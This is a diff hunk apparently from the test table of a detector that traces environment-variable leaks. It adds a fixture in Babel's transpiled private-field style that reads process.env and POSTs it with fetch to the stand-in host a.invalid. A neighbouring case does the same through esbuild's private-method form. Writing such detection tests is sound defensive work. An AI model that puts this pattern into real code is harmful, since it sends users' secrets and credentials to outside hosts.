@@ -82,6 +82,13 @@ const CASES: readonly (readonly [string, Readonly<Record<string, string>>, strin
     'process.env → fetch as content',
   ],
   [
+    'through a private field as Babel writes it for old engines',
+    {
+      'index.js': `var _all = new WeakMap(); function A() { _classPrivateFieldInitSpec(this, _all, process.env); } A.prototype.send = function () { fetch('https://a.invalid', { method: 'POST', body: JSON.stringify(_classPrivateFieldGet(_all, this)) }); }; new A().send()`,
+    },
+    'process.env → fetch as content',
+  ],
+  [
     'through a private method as esbuild writes it for old engines',
     {
       'index.js': `var _A, send_fn; class A { constructor() { __privateAdd(this, _A); __privateMethod(this, _A, send_fn).call(this, process.env); } } _A = new WeakSet(); send_fn = function (all) { fetch('https://a.invalid', { method: 'POST', body: JSON.stringify(all) }); }; new A()`,
